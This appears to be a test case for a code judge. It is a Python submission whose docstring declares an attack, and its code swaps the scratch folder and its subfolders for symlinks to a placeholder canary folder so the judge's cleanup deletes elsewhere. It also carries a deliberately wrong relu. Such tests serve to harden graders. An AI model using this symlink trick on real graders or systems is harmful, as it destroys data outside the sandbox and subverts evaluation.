"""Lets the judge clean up somewhere else.

Attack: Replaces its scratch folder, or folders in it, by links to a folder outside.
Expect: no_point
Exercise: relu
Effect: victim
"""

import os

HOME = os.getcwd()
for name in ("inner", "inner2"):
    try:
        os.symlink("@CANARY@", name)
    except OSError:
        pass
try:
    os.rename(HOME, HOME + "-moved")
    os.symlink("@CANARY@", HOME)
except OSError:
    pass


def relu(z):
    return z
